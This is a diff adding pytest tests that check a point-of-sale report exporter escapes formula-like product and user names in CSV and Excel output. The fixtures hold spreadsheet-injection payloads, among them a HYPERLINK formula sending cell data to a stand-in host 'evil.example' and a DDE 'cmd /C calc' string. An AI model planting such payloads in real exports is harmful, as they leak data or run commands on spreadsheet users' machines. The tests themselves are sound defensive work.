@@ -4,14 +4,18 @@ line, never a spreadsheet formula; the real CLI against a hostile CloudPOS on lo
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import subprocess
 import sys
+from decimal import Decimal
 from pathlib import Path
 
 import pytest
 from sqlalchemy import select
 
+from syncer import reports, writers
 from syncer import tables as t
 from syncer.db import make_engine
 from syncer.simulator import Simulator
@@ -19,6 +23,7 @@ from syncer.simulator.data import generate
 from tests.conftest import ANCHOR, LICENSE, TOKEN
 from tests.helpers import cli_env, run_cli
 from tests.hostile import Answer, api_error, hostile, with_values
+from tests.test_writers import BRUSSELS, SHIFT, convert, soffice
 
 MARKUP_LICENSE = "shop[/]"
 
@@ -170,3 +175,71 @@ def test_only_a_200_is_an_answer(db_url: str, sim: Simulator, tmp_path: Path, st
     finally:
         engine.dispose()
     assert len([f for f, _ in server.seen if f == "get-printers"]) >= 1
+
+
+RUNNING_NAMES = {
+    "Espresso": '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "Cappuccino": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "Latte macchiato": "-2+3",
+    "Irish coffee": "+1+1",
+    "Coca-Cola": "\tTAB=1+1",
+}
+
+
+def test_a_spreadsheet_never_runs_a_product_name(db_url: str, sim: Simulator, tmp_path: Path) -> None:
+    from openpyxl import load_workbook
+
+    def rename(function: str, params: dict[str, str], body: bytes) -> bytes | None:
+        return with_values(body, lambda key, value: RUNNING_NAMES.get(value, value)
+                           if isinstance(value, str) else value)
+
+    with hostile(sim.base_url, rename) as server:
+        env = cli_env(db_url, server.base_url)
+        assert run_cli(["backfill"], env, cwd=tmp_path).exit_code == 0
+    for name, args in (("be.csv", ["--csv", "excel-be"]), ("book.xlsx", []), ("plain.csv", [])):
+        made = run_cli(["report", "product_sales", "--out", str(tmp_path / name), *args], env,
+                       cwd=tmp_path)
+        assert made.exit_code == 0, made.output
+
+    # The spreadsheet CSV: each such name behind a `'`, every other cell as it was.
+    with (tmp_path / "be.csv").open(encoding="utf-8-sig", newline="") as f:
+        rows = list(csv.DictReader(f, delimiter=";"))
+    names = {row["product_name"] for row in rows}
+    assert {f"'{n}" for n in RUNNING_NAMES.values()} <= names
+    assert not names & set(RUNNING_NAMES.values())
+    assert "Spa plat" in names
+    # The CSV for scripts: every name exactly as the API sent it.
+    with (tmp_path / "plain.csv").open(encoding="utf-8", newline="") as f:
+        assert set(RUNNING_NAMES.values()) <= {row["product_name"] for row in csv.DictReader(f)}
+    # The workbook: text cells holding the names as sent, with Excel's quote prefix.
+    sheet = load_workbook(tmp_path / "book.xlsx").active
+    assert sheet is not None
+    cells = {c.value: c for c in sheet["D"] if isinstance(c.value, str)}
+    for running in RUNNING_NAMES.values():
+        assert cells[running].data_type == "s" and cells[running].quotePrefix, running
+    assert not cells["Spa plat"].quotePrefix
+    # LibreOffice opening the CSV the way Excel does (formulas evaluated): not one formula.
+    opened = convert(soffice(), tmp_path / "be.csv", tmp_path / "opened", tmp_path / "profile",
+                     "--infilter=CSV:59,34,,1,,2067,false,true,false,false,false,-1,true")
+    book = load_workbook(opened).active
+    assert book is not None
+    kinds = {c.data_type for row in book.iter_rows() for c in row}
+    assert "f" not in kinds
+    shown = {c.value for c in book["D"]}
+    assert {f"'{n}" for n in RUNNING_NAMES.values()} <= shown
+
+
+def test_excel_be_quotes_formulas_in_text_and_keeps_numbers_numeric() -> None:
+    labor = reports.get("report_labor")
+    rows = [{**SHIFT, "username": name, "hours_worked": hours} for name, hours in (
+        ("=1+1", Decimal("-1.50")), ("-5", Decimal("2")), ("-2+3", Decimal("0")),
+        ("@me", Decimal("1")), ("Léa", Decimal("3")))]
+    out = io.BytesIO()
+    writers.get("csv", csv="excel-be").write(writers.Extract(labor, rows, BRUSSELS), out)
+    lines = out.getvalue().decode("utf-8-sig").splitlines()[1:]
+    assert [(line.split(";")[3], line.split(";")[6]) for line in lines] == [
+        ("'=1+1", "-1,50"), ("-5", "2,00"), ("'-2+3", "0,00"), ("'@me", "1,00"), ("Léa", "3,00")]
+    plain = io.BytesIO()
+    writers.get("csv").write(writers.Extract(labor, rows, BRUSSELS), plain)
+    assert [line.split(",")[3] for line in plain.getvalue().decode().splitlines()[1:]] == [
+        "=1+1", "-5", "-2+3", "@me", "Léa"]
